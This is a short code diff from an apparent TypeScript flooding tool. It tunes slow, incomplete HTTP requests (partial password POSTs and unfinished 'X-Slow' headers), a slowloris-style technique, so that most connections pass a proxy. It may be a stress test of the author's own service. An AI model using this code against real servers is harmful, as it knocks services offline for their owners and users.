@@ -108,7 +108,9 @@ function flood(site: string): void {
     `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${site}\r\n` +
     'Content-Type: application/json\r\nContent-Length: 400\r\n\r\n{"password":"';
   const get = `GET / HTTP/1.1\r\nHost: ${host}\r\n`;
-  const starts = [post('/gate'), post('/host/api/session'), `${get}X-Slow: `, `${get}\r\n`];
+  const passwords = [post('/gate'), post('/host/api/session')];
+  // Nine of ten send a body, because only complete headers pass a proxy.
+  const starts = [...Array(9).fill(passwords).flat(), `${get}X-Slow: `, `${get}\r\n`];
   let connectCount = 0;
 
   function connectClient(index: number): void {
